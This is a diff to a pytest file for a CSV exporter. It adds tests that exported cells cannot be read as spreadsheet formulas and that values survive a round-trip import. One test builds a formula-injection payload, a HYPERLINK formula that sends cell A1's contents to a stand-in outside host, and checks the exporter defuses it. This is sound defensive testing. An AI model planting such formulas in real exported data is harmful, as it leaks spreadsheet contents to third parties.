@@ -6,18 +6,21 @@ import json
 from datetime import date, datetime
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from coach.domain.applications import Application, Contact, Event, EventKind
 from coach.domain.messages import Kind
 from coach.exporting import to_csv
 from tests.exporting.samples import BARE, FULL, records
+from tests.importing.reading_files import read
 
 HEADER = (
     "company,role,stage,applied_on,link,location,source,notes,contacts,"
     "event,at,on,ended_at,round,type,contact,note,request,request_id,promised_on,channel,text"
 )
-RISKY = ("=", "+", "-", "@", "\t", "\r", "'")
+SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+RISKY = (*SIGNS, "'")
 
 
 def rows_of(*applications: Application) -> list[dict[str, str]]:
@@ -50,7 +53,7 @@ def test_instants_keep_their_offset_and_plain_dates_stay_plain() -> None:
     assert note["text"] == "Dear Ms Osei,\r\nthank you."
 
 
-@pytest.mark.parametrize("sign", RISKY)
+@pytest.mark.parametrize("sign", [*RISKY, " =", " \u00a0\u3000@", "'="])
 def test_no_cell_can_be_taken_for_a_formula(sign: str) -> None:
     evil = f'{sign}HYPERLINK("https://elsewhere.example?"&A1)'
     event = Event(
@@ -63,7 +66,7 @@ def test_no_cell_can_be_taken_for_a_formula(sign: str) -> None:
     assert not any(cell.startswith(RISKY[:-1]) for cell in row.values())
 
 
-@pytest.mark.parametrize("text", ["a=b", " =1", "50%", "it's", "", '"quoted"', "a;b,c\td", "x\n=1"])
+@pytest.mark.parametrize("text", ["a=b", " a=1", "50%", "it's", "", '"quoted"', "a;b,c\td", "x\n=1"])
 def test_other_cells_are_left_alone(text: str) -> None:
     [row] = rows_of(Application("Apex", notes=text))
     assert row["notes"] == text
@@ -80,7 +83,9 @@ def test_every_value_can_be_read_back(record: tuple[Application, ...]) -> None:
     for application in record:
         for event in application.events or (None,):
             row = {
-                key: cell[1:] if cell.startswith("'") and cell[1:2] in RISKY else cell
+                key: cell[1:]
+                if cell.startswith("'") and (cell[1:].startswith(RISKY) or cell[1:].lstrip().startswith(RISKY))
+                else cell
                 for key, cell in next(rows).items()
             }
             assert row["company"] == application.company
@@ -92,3 +97,16 @@ def test_every_value_can_be_read_back(record: tuple[Application, ...]) -> None:
                 assert datetime.fromisoformat(row["at"]) == event.at
             assert row["text"] == ((event and event.text) or "")
     assert next(rows, None) is None
+
+
+@given(st.lists(st.sampled_from([*RISKY, " ", "\u3000", '"', "'", "a", ",", ";"]), min_size=1, max_size=5).map("".join))
+@example("'=")
+@example("' =")
+@example(" '")
+def test_what_looks_like_a_formula_comes_back_by_an_import(text: str) -> None:
+    text = text.replace("\0", "")  # what an import leaves out of any file
+    given_ = Application("Apex", "Baker", notes=f"{text}1", events=(Event(EventKind.APPLIED, on=date(2026, 5, 4)),))
+    (row,) = rows_of(given_)
+    assert not row["notes"].lstrip().startswith(SIGNS)
+    (read_,) = read(to_csv([given_])).applications
+    assert read_.application.notes == given_.notes
